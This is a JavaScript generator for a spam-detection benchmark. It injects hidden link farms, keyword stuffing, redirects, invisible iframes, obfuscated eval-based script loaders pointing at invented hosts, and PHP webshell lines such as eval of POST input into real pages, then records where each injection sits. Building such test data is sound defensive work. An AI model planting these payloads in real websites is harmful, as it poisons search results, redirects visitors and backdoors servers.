// A second injector, for spam in markup: `node bench/spam/run.mjs --injector markup`. Other styles, words, hosts and places than the first
// one's; `REAL` names a folder of real pages to put the spam into. Own compilation; hosts are invented.
const WORDS = {
  en: 'royal flush bonus codes|no deposit free chips|mega wheel jackpots|tadalafil online no script|buy weight drops|instant payday cash|replica handbag outlet|term papers cheap|adult webcam girls|night girls hotel|crypto doubler site|cracked keygen full|backlink packages|betting odds tonight|male pills discount|hair regrowth pills',
  'zh-Hans': '澳门葡京赌场|百家乐技巧|北京赛车开奖|时时彩平台|成人电影在线|激情小说网|伟哥正品专卖|办证刻章|代开发票|私家侦探|高仿手表批发|六合彩特码|网上真钱棋牌|裸聊直播间|迷药商城|信用卡套现',
  ja: 'スーパーコピー時計|ブランド財布激安|バイアグラ通販|オンラインカジノ入金不要|出会い系無料|ルイヴィトン偽物|アダルト動画無料|パチンコ必勝法|激安ダウンジャケット|即日融資審査なし|ロレックス中古激安|裏DVD販売',
  ko: '바카라사이트|토토사이트추천|출장안마후기|비아그라구매|카지노쿠폰|성인용품점|대출상담바로|먹튀검증업체|야동사이트주소|슬롯머신게임|스포츠배팅사이트|명품레플리카',
  ru: 'казино вулкан бонус|ставки на спорт онлайн|виагра без рецепта|кредит наличными срочно|порно онлайн бесплатно|проститутки москвы|диплом купить недорого|игровые автоматы играть|копии часов швейцария|микрозайм без отказа|спайс закладки|взлом вконтакте',
  id: 'situs judi slot gacor|bandar togel resmi|agen bola terpercaya|obat kuat pria|pinjaman online cair|slot deposit pulsa|bokep terbaru|poker uang asli|rtp live hari ini|jual akun pro',
  de: 'casino ohne einzahlung|potenzmittel rezeptfrei|sofortkredit ohne schufa|erotik livecam|doktorarbeit kaufen|rolex replika|sportwetten bonus|abnehmpillen bestellen|sexkontakte umgebung|poker echtgeld',
  es: 'tragaperras con bono|viagra generico barato|creditos rapidos sin nomina|contactos mujeres ciudad|apuestas deportivas gratis|relojes replica suizos|pastillas adelgazar venta|peliculas porno gratis|ruleta dinero real|tesis por encargo',
  tr: 'deneme bonusu veren|kaçak bahis sitesi|escort bayan numara|canlı casino oyna|porno izle bedava|cinsel güç hapı|kredi çek hemen|replika saat satış|iddaa tahmin kesin|takipçi satın al',
  vi: 'nhà cái uy tín|đánh bài đổi thưởng|soi cầu lô đề|phim sex không che|thuốc cường dương|vay tiền online nhanh|cá độ bóng đá|gái gọi cao cấp|đồng hồ fake|tăng like giá rẻ',
}; // prettier-ignore
const NAMES = 'kuvaro zelmit brantik fosuly wendoq parlixi munrev taskobi qilento varduz hostrelia ombeki'.split(' ');
const ENDS = ['.com', '.net', '.org', '.info', '.top', '.xyz', '.ru', '.cn', '.co', '.vip', '.icu', '.biz'];
const host = (r) =>
  `${r.pick(['', '', 'www.', 'm.', 'bet.'])}${r.pick(NAMES)}${r.chance(0.4) ? r.int(2, 999) : ''}${r.chance(0.3) ? '-' + r.pick(NAMES) : ''}${r.pick(ENDS)}`;
const url = (r) =>
  `${r.pick(['http:', 'https:', 'http:', ''])}//${host(r)}${r.pick(['', '/', '/index.html', '/a/' + r.int(1, 9999) + '.html', '/?p=' + r.int(1, 99)])}`;
const code = (s) => [...s].map((c) => `&#${c.codePointAt(0)};`).join('');
const hex = (s) => [...s].map((c) => `&#x${c.codePointAt(0).toString(16)};`).join('');

class Spam {
  constructor(r, own, words) {
    this.r = r;
    const known = Object.keys(words);
    this.language = r.chance(0.5) && known.includes(own) ? own : r.pick(known);
    this.words = words[this.language].split('|');
  }
  phrase() {
    return this.r.pick(this.words);
  }
  some(n) {
    return this.r.some(this.words, n);
  }
  link() {
    const { r } = this;
    const w = r.chance(0.12) ? code(this.phrase()) : this.phrase();
    const u = url(r);
    const q = r.pick(['"', '"', "'", '']);
    const a = r.chance(0.15) ? 'A HREF' : 'a href';
    return `<${a}=${q}${u}${q}${r.chance(0.2) ? ' title="' + this.phrase() + '"' : ''}${r.chance(0.15) ? ' target=_blank' : ''}>${w}</${a[0]}>`;
  }
  links(n, by = this.r.pick([' ', '', ', ', ' | ', '\n', '<br>'])) {
    return Array.from({ length: n }, () => this.link()).join(by);
  }
  /** What a hidden box holds: links, links in words, or keywords alone. */
  inside() {
    const { r } = this;
    const n = r.int(2, 9);
    return r.pick([
      () => this.links(n),
      () => this.links(n),
      () => `<ul>${Array.from({ length: n }, () => `<li>${this.link()}</li>`).join('')}</ul>`,
      () => `${this.phrase()} ${this.links(r.int(1, 3))} ${this.phrase()}`,
      () => this.some(r.int(6, 10)).join(r.pick([', ', ' ', ' | ', '，'])),
    ])();
  }
}

const STYLES = [
  'position:absolute;left:-5000px', 'POSITION: absolute; TOP: -4321px', 'text-indent:-9999px', 'clip:rect(0,0,0,0);position:absolute', 'height:0;overflow:hidden', 'height:1px;width:1px;overflow:hidden',
  'opacity:0', 'visibility:hidden', 'font-size:1px', 'font-size:0px', 'color:#fff', 'color:#FFFFFF;background:#ffffff', 'color:white;font-size:1px', 'transform:scale(0)', 'max-height:0;overflow:hidden', 'position:absolute;z-index:-1;left:-1000em',
  'display:none', 'display : none !important', 'margin-left:-99999px', 'position:fixed;left:-200%', 'width:0px;height:0px;overflow:hidden;position:absolute', 'filter:alpha(opacity=0);opacity:0', 'overflow:hidden;height:0px;width:0px', 'line-height:0;font-size:0;color:transparent',
  'clip-path:inset(100%)', 'clip-path: polygon(0 0,0 0,0 0)', 'left:-9999px;position:absolute;', 'position:absolute;top:-99em', 'text-indent:-999em;overflow:hidden', 'display:none;visibility:hidden', 'opacity:0.01;position:absolute', 'position: absolute; clip: rect(1px, 1px, 1px, 1px);', 'transform:translateX(-9999px)', 'color:#fefefe;background-color:#fff', 'color:rgb(255,255,255)', 'color:rgba(0,0,0,0)',
]; // prettier-ignore
const styled = (r, inner, s = r.pick(STYLES)) => {
  const t = r.pick(
    /<(?:ul|div)/.test(inner)
      ? ['div', 'DIV', 'section']
      : ['div', 'div', 'span', 'p', 'DIV', 'font', 'u', 'section', 'b'],
  );
  const quote = /["' ;]/.test(s) ? r.pick(['"', '"', "'"]) : r.pick(['"', '']);
  return `<${t} ${r.pick(['style', 'style', 'STYLE'])}=${quote}${s}${quote}>${inner}</${t}>`;
};
const id = (r) => r.pick(['x', 'q', 'lnk', 'wp_', 'f']) + r.int(10, 99999);
const DROP = [
  'display:none',
  'position:absolute;left:-9999px',
  'height:0;overflow:hidden',
  'text-indent:-9999px',
  'visibility:hidden',
];

const payloads = [
  (s) =>
    `document.write('<div style="position:absolute;left:-4000px">${s.links(2, ' ').replace(/'/g, '"').replace(/\n/g, ' ')}</div>')`,
  (s) => `location.href="${url(s.r).replace(/^\/\//, 'http://')}"`,
  (s) => `var e=document.createElement("script");e.src="${url(s.r)}j.js";document.head.appendChild(e)`,
  (s) => `document.write('<iframe src="${url(s.r)}" width=0 height=0></iframe>')`,
  (s) => `document.write("<script src='${url(s.r)}tj.js'></"+"script>")`,
];
const percent = (t) => [...t].map((c) => '%' + c.charCodeAt(0).toString(16).padStart(2, '0')).join('');
const ascii = (t) => t.replace(/[^\x20-\x7e]/g, 'x');
const b64 = (t) => Buffer.from(t, 'latin1').toString('base64');
const packs = [
  (t) => `eval(atob('${b64(t)}'))`,
  (t) => `(new Function(atob("${b64(t)}")))()`,
  (t) => `eval(unescape('${percent(t)}'))`,
  (t) => `eval(String.fromCharCode(${[...t].map((c) => c.charCodeAt(0))}))`,
  (t) =>
    `var _x=[${[...t].map((c) => c.charCodeAt(0) + 3)}],_s='';for(var i=0;i<_x.length;i++)_s+=String.fromCharCode(_x[i]-3);eval(_s);`,
  (t) =>
    `window["\\x65\\x76\\x61\\x6c"]("${[...t].map((c) => '\\x' + c.charCodeAt(0).toString(16).padStart(2, '0')).join('')}")`,
  (t) => `setTimeout(decodeURIComponent("${percent(t)}"),1)`,
];
const script = (r, inner) =>
  `<${r.chance(0.85) ? 'script' : 'SCRIPT'}${r.pick(['', '', ' type="text/javascript"', ' language=javascript'])}>${inner}</script>`;
const codes = {
  packed: (s, r) => script(r, r.pick(packs)(ascii(r.pick(payloads)(s)))),
  writes: (s, r) => script(r, r.pick([payloads[0], payloads[3]])(s)),
  referrer: (s, r) => {
    const to = url(r).replace(/^\/\//, 'https://');
    return script(r, r.pick([
      () => `if(/baidu|google|sogou|so\\.com/i.test(document.referrer)){window.location="${to}"}`,
      () => `var r=document.referrer.toLowerCase();if(r.indexOf('google')>-1||r.indexOf('yandex')>-1){window.location.replace('${to}');}`,
      () => `(function(){var s=document.referrer;var t=["baidu","360","sm.cn","toutiao"];for(var i in t){if(s.indexOf(t[i])!=-1){self.location='${to}';return}}})()`,
      () => `if(navigator.userAgent.match(/(iphone|android|mobile)/i)&&document.referrer.indexOf("google")>0){top.location.href='${to}';}`,
      () => `if(!/bot|spider|crawl/i.test(navigator.userAgent)){document.location.href="${to}"}`,
    ])()); // prettier-ignore
  },
  source: (s, r) =>
    `<script src="${r.pick(['data:text/javascript;base64,', 'data:application/javascript;base64,'])}${b64(ascii(r.pick(payloads)(s)))}"></script>`,
};

/** name → [formats, places, what is put in]. */
export const FAMILIES = {
  'style-block': ['markdown html', 'block body-end body-start', (s, r) => styled(r, s.inside())],
  'style-inline': ['html', 'inline', (s, r) => styled(r, r.pick([s.links(r.int(1, 5), ' '), s.links(2, ', ')])).replace(/^<(div|p|section)/i, '<span').replace(/<\/(div|p|section)>$/i, '</span>')],
  attribute: ['markdown html', 'block body-end', (s, r) => r.pick([() => `<div hidden>${s.inside()}</div>`, () => `<DIV HIDDEN="hidden">${s.inside()}</DIV>`, () => `<marquee height=1 width=1 scrollamount="3000">${s.links(r.int(2, 8))}</marquee>`, () => `<marquee width="1" height="1">${s.links(3)}</marquee>`, () => `<noscript>${s.links(r.int(3, 8))}</noscript>`, () => `<font color="#ffffff" size="1">${s.links(r.int(2, 6))}</font>`, () => `<FONT style="display:none">${s.inside()}</FONT>`, () => `<div aria-hidden="true" style="opacity:0">${s.inside()}</div>`])()],
  'class-rule': ['html', 'block body-end', (s, r, add) => { const k = id(r); const how = r.int(0, 3); const rule = r.pick(DROP); if (how === 0) { add.head(`<style>.${k}{${rule}}</style>`); return `<div class="${k}">${s.inside()}</div>`; } if (how === 1) { add.head(`<style type="text/css">\n#${k} { ${rule.replace(/;/g, '; ')}; }\n</style>`); return `<div id="${k}">${s.inside()}</div>`; } if (how === 2) return `<style>#${k}{${rule}}</style><div id='${k}'>${s.inside()}</div>`; return `<div id="${k}">${s.inside()}</div><script>document.getElementById("${k}").style.${r.pick(["display='none'", 'display = "none"', "visibility='hidden'"])};</script>`; }],
  'written-box': ['html', 'block body-end', (s, r) => `<script>document.write('<div style="${r.pick(DROP)}">')</script>${s.links(r.int(3, 8))}<script>document.write('</div>')</script>`],
  frame: ['markdown html', 'block body-end after-doc', (s, r) => { const u = url(r); return r.pick([`<iframe src="${u}" width=1 height=1 frameborder=0></iframe>`, `<IFRAME SRC="${u}" WIDTH="0" HEIGHT="0"></IFRAME>`, `<iframe src='${u}' style='visibility:hidden;position:absolute'></iframe>`, `<div style="display:none"><iframe src="${u}"></iframe></div>`, `<iframe src="${u}" style="width:1px;height:1px;opacity:0"></iframe>`, `<iframe hidden src=${u}></iframe>`, `<iframe src="${u}" height="1" style="border:0"></iframe>`]); }],
  comment: ['markdown html', 'block body-end', (s, r) => r.pick([() => `<!-- ${s.links(r.int(2, 6), ' ')} -->`, () => `<!--${s.links(r.int(2, 6), '\n')}-->`, () => `<!-- ${s.phrase()} ${url(r).replace(/^\/\//, 'http://')} ${s.phrase()} ${url(r).replace(/^\/\//, 'http://')} -->`, () => `<!--\n<ul><li>${s.link()}</li><li>${s.link()}</li><li>${s.link()}</li></ul>\n-->`])()],
  nest: ['markdown html', 'block inline body-end', (s, r) => { const t = 'b u tt em big sub sup dfn kbd var cite code samp small abbr acronym del ins font center strike'.split(' '); const n = () => Array.from({ length: r.int(5, 7) }, (_, i) => (i % 3 === 1 ? r.int(0, 9) : r.pick([...'qwrtzpsdfghjklxcvbnm']))).join(''); const one = (d) => { const x = r.pick(t); return `<${x} ${r.pick(['id', 'class', 'lang', 'dir'])}='${n()}'>${d ? one(d - 1) + (r.chance(0.4) ? one(d - 1) : '') : ''}</${x}>`; }; return one(r.int(3, 5)) + (r.chance(0.5) ? one(2) : ''); }],
  packed: ['markdown html', 'block body-end head', codes.packed],
  writes: ['html', 'block body-end head', codes.writes],
  redirect: ['html', 'head body-end block', codes.referrer],
  'data-script': ['html', 'head body-end', codes.source],
  outside: ['html', 'before-doc after-doc', (s, r) => r.pick([() => `<a href="${url(r)}">${s.phrase()}</a>`, () => s.links(r.int(2, 5), ' '), () => `<script src="${url(r)}tj.js"></script>`, () => codes.packed(s, r), () => codes.writes(s, r), () => `<div>${s.inside()}</div>`, () => styled(r, s.inside())])()],
  php: ['html', 'before-doc after-doc', (s, r) => `<?php ${r.pick([`@eval(base64_decode("${b64('echo file_get_contents("http://' + host(r) + '");')}"));`, `$x="${b64('http://' + host(r))}"; eval(gzinflate(base64_decode($x)));`, `@include("${'\\x2f'}tmp${'\\x2f'}.ico"); error_reporting(0); @eval($_POST['${r.pick(NAMES)}']);`])} ?>`],
  head: ['html', 'title', (s, r) => { const c = r.pick([(x) => x, (x) => x, code, hex]); const join = r.pick([',', '_', '|', '-']); return `<title>${c(s.some(3).join(join))}</title>\n<meta name="keywords" content="${c(s.some(5).join(','))}" />\n<meta name="description" content="${c(s.some(5).join(r.pick(['，', ',', ' '])))}" />`; }],
  'head-replaced': ['html', 'title-replace', (s, r) => { const c = r.pick([(x) => x, code]); return `<title>${c(s.some(3).join(r.pick([',', '_', ' - '])))}</title>\n<meta name="keywords" content="${c(s.some(5).join(','))}">\n<meta name="description" content="${c(s.some(5).join(r.pick(['，', ', ', '-'])))}">`; }],
  refresh: ['html', 'head', (s, r) => r.pick([`<meta http-equiv="refresh" content="0;url=${url(r)}">`, `<META HTTP-EQUIV=Refresh CONTENT='1; URL=${url(r)}'>`, `<meta content="3; url='${url(r).replace(/^\/\//, 'http://')}'" http-equiv="refresh" />`])],
  farm: ['markdown html', 'block body-end', (s, r) => { const n = r.int(4, 12); return r.pick([() => `<p>${s.links(n)}</p>`, () => `<div>${s.links(n)}</div>`, () => `<table><tr><td>${s.links(n, '</td><td>')}</td></tr></table>`, () => `<ul>${Array.from({ length: n }, () => `<li>${s.link()}</li>`).join('\n')}</ul>`, () => `<center>${s.links(n, ' - ')}</center>`])(); }],
  wrapped: ['html', 'block body-end', (s, r) => { const w = [...s.some(s.words.length)]; const t = r.pick(['li', 'li', 'span', 'p', 'strong', 'h3']); const inner = w.map((x) => `<${t}>${r.chance(0.1) ? code(x) : x}</${t}>`).join(r.pick(['', '\n', ' '])); return t === 'li' ? `<ul>${inner}</ul>` : `<div>${inner}</div>`; }],
  coded: ['markdown html', 'block body-end', (s, r) => { const c = r.pick([code, hex]); return `<${r.pick(['p', 'div'])}>${c(s.some(r.int(5, 9)).join(r.pick([',', ' ', '|'])))}</p>`.replace(/^<div>(.*)<\/p>$/, '<div>$1</div>'); }],
}; // prettier-ignore

/** Puts `family` into a page or a Markdown text: the text, where the spam stands, and what should be restored. */
export function inject(family, text, format, language, r, words = WORDS) {
  const [, places, make] = FAMILIES[family];
  let page = text;
  const spam = new Spam(r, language, words);
  const piece = make(spam, r, { head: (x) => (page = page.replace('</head>', () => `${x}\n</head>`)) });
  const place = format === 'markdown' ? 'block' : r.pick(places.split(' '));
  const spots = [];
  if (place === 'block' || place === 'inline')
    for (const m of format === 'markdown'
      ? page.matchAll(/[^\n]{80,}(?=\n\n)/g)
      : page.matchAll(/<p(?:\s[^<>]*)?>[^<>]{80,}<\/p>/g))
      spots.push(m.index + m[0].length - (place === 'inline' ? 4 : 0));
  else if (place === 'body-end') spots.push(page.lastIndexOf('</body>'));
  else if (place === 'body-start') spots.push(/<body[^>]*>/.exec(page)?.index + /<body[^>]*>/.exec(page)?.[0].length);
  else if (place === 'head') spots.push(page.indexOf('</head>'));
  else if (place === 'before-doc') spots.push(0);
  else if (place === 'after-doc') spots.push(page.trimEnd().length);
  else if (place === 'title') spots.push(page.indexOf('<title'));
  const old = place === 'title-replace' ? /<title[^>]*>[^<]*<\/title>/.exec(page) : undefined;
  if (old) spots.push(old.index);
  if (spots.length === 0 || !(spots.at(-1) >= 0)) return undefined;
  const at = r.pick(spots);
  // A line of its own only where one begins in the page, so that taking it away has one right answer.
  const lines =
    page[['block', 'after-doc', 'body-start'].includes(place) ? at : at - 1] === '\n' && page[at - 2] !== '\r';
  const gap = format === 'markdown' ? '\n\n' : place === 'inline' || !lines ? '' : r.pick(['\n', '\n', '']);
  const before = ['block', 'after-doc', 'body-start'].includes(place) ? gap : '';
  const after = before || place === 'inline' ? '' : gap;
  const start = at + before.length;
  return {
    text: page.slice(0, at) + before + piece + after + page.slice(at + (old ? old[0].length : 0)),
    spans: [{ start, end: start + piece.length }],
    original: page,
  };
}
